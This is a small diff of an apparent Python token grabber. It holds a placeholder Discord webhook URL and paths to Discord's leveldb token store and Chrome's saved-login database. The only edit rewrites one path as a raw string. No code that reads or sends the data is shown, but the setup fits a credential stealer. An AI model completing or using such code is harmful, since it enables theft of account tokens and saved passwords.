@@ -4,7 +4,7 @@ import os
 
 WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/demo-not-a-real-token"
 PATHS = [
-    os.path.join("AppData", "Roaming", "discord", "Local Storage\\leveldb"),
+    os.path.join("AppData", "Roaming", "discord", r"Local Storage\leveldb"),
     os.path.join("AppData", "Local", "Google", "Chrome", "User Data", "Default", "Login Data"),
 ]
 
